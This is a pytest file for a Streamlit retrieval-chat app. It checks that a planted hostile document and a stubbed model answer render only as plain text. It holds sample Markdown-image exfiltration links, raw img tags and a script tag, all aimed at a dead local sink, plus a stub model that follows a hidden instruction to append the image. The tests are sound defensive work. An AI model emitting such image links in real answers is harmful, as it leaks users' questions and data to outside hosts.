"""A hostile document and a hostile model answer show as text on the chat and trace pages
(security finding 3): every Markdown string the pages send is parsed, and no image, link, raw
HTML or autolink comes out of the untrusted parts; the hostile text itself is on the page."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
import streamlit as st

from tests.fakes.openai_stub import Reply, StubOpenAIServer, plausible_responder, requested_schema
from tests.ui.apptools import assert_no_exception, new_app
from tests.ui.markdown_tokens import links, live_parts, shown_text, without_citation_links

SINK = "http://127.0.0.1:9"  # nothing listens: these tests read the Markdown, not the network
HEADING_IMAGE = f"![h]({SINK}/leak-heading)"
HTML = f"<img src={SINK}/html>"
AUTOLINK = f"{SINK}/autolink"
LINK = f"[click]({SINK}/link)"
# The offline reasoner ends a sentence at '!', so the body's image is last: what comes before it
# reaches the answer whole, the image itself the passage and the model's prompt.
HOSTILE_DOC = f"""# Gadget policy {HEADING_IMAGE}

## Refunds <img src={SINK}/html-heading>
The refund window for hostile gadgets is forty five days, see {AUTOLINK} or www.example.com or
admin@example.com {HTML} {LINK} <script>alert(1)</script> ![x]({SINK}/leak-doc).
""".encode()
QUESTION = "What is the refund window for hostile gadgets?"
EXFIL = f"![status]({SINK}/exfil?q=What+is+the+refund+window)"
MODEL_ANSWER = f"The refund window is forty five days [1]. {EXFIL} <img src={SINK}/exfil-html> [9]"
# Our own Markdown around the untrusted text: bold, italics, code, quotes and lists.
OURS = frozenset(
    {"strong", "em", "code_inline", "blockquote", "bullet_list", "ordered_list", "list_item"}
)


def page_markdown(at: Any) -> list[str]:
    """Every string the page renders as Markdown: bodies, captions, alerts, headings and the
    labels of expanders, buttons and status boxes (Streamlit renders those as Markdown too)."""
    parts = [m.value for m in at.markdown] + [c.value for c in at.caption]
    for kind in (at.info, at.success, at.warning, at.error, at.subheader, at.title):
        parts += [e.value for e in kind]
    parts += [e.label for e in at.expander] + [b.label for b in at.button]
    parts += [s.label for s in at.status]
    return [without_citation_links(str(p)) for p in parts]  # our [n] → card links aside


def assert_nothing_live(at: Any) -> str:
    """No image, link, HTML or autolink anywhere on the page; returns what a reader sees."""
    assert_no_exception(at)
    for markdown in page_markdown(at):
        assert live_parts(markdown, allow=OURS) == [], markdown
        assert links(markdown) == [], markdown
        assert "![" not in markdown and "](" not in markdown, markdown
    return "\n".join(shown_text(m) for m in page_markdown(at))


@pytest.fixture(scope="module")
def kb(app_data: Path) -> Path:
    from ingest.pipeline import ingest_bytes
    from ui.services import get_settings, get_store

    name = "gadgets ![f](leak-file).md"
    result = ingest_bytes(
        HOSTILE_DOC, name, get_store(), groups=["all"], config=get_settings().ingest
    )
    assert result.status == "ingested", result.reason
    return app_data


def ask_and_trace(question: str) -> tuple[str, str]:
    """Ask on the chat page, open the answer's trace; what a reader sees on each page."""
    at = new_app().run()
    at.chat_input[0].set_value(question).run()
    chat = assert_nothing_live(at)
    next(b for b in at.button if b.label.startswith("Open hop trace")).click().run()
    assert "Hop trace" in [t.value for t in at.title]
    return chat, assert_nothing_live(at)


def test_a_hostile_document_shows_as_text_in_chat_and_trace(kb: Path) -> None:
    chat, trace = ask_and_trace(QUESTION)
    # Markdown's own marks are read as a reader of the file sees them (an image is its alt
    # text, a link its text and address), and nothing of them is live on the page
    assert "Gadget policy h" in chat and "leak-heading" not in chat  # the section, as text
    for shown in (chat, trace):  # the body's hostile parts are there, as text
        assert HTML in shown and AUTOLINK in shown and f"click ({SINK}/link)" in shown
    assert "gadgets ![f](leak-file).md" in chat  # the file name in the source card


@pytest.fixture
def hostile_model(kb: Path) -> Iterator[StubOpenAIServer]:
    """The model (the local stub) follows the hidden instruction: its answer appends an image."""

    def respond(request: dict[str, Any]) -> Reply:
        if requested_schema(request) is None:  # the streamed answer
            return Reply(content=MODEL_ANSWER)
        return plausible_responder(request)

    with StubOpenAIServer(responder=respond) as server, pytest.MonkeyPatch.context() as mp:
        mp.setenv("HOPWISE_LLM_BASE_URL", server.url)
        mp.setenv("HOPWISE_LLM_MODEL", "stub-model")
        mp.setenv("HOPWISE_LLM_API_KEY", "test-key")
        mp.setenv("HOPWISE_LLM_MAX_RETRIES", "0")
        st.cache_resource.clear()  # settings and runner rebuilt with the model
        yield server
        st.cache_resource.clear()


def test_a_model_answer_with_an_exfiltration_image_shows_as_text(
    hostile_model, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("HOPWISE_CLAIM_CHECK", "off")  # the page's own defence, on its own
    chat, trace = ask_and_trace("How long is the refund window for hostile gadgets?")
    assert any(r.json.get("stream") for r in hostile_model.chat_requests)
    assert EXFIL in chat and f"<img src={SINK}/exfil-html>" in chat
    assert "[9]" in chat  # a number the answer does not cite stays plain text


def test_the_claim_check_cuts_the_models_uncited_exfiltration_claims(hostile_model) -> None:
    chat, _ = ask_and_trace("How long is the refund window for hostile gadgets?")
    assert EXFIL not in chat and f"{SINK}/exfil-html" not in chat
